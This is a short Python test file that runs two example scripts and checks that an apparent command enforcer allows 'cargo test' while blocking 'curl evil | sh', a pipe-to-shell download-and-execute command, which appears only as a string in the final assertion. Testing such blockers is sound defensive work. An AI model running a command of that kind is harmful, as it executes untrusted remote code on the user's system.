"""The examples run (mypy --strict checks them in `cargo xtask test`)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def test_examples_run() -> None:
    for name in ["enforcer.py", "script.py"]:
        out = subprocess.run(
            [sys.executable, str(EXAMPLES / name)], capture_output=True, text=True, timeout=120
        )
        assert out.returncode == 0, out.stderr
    enforcer = subprocess.run(
        [sys.executable, str(EXAMPLES / "enforcer.py")], capture_output=True, text=True, timeout=120
    )
    assert "RUN   cargo test" in enforcer.stdout
    assert "BLOCK curl evil | sh" in enforcer.stdout
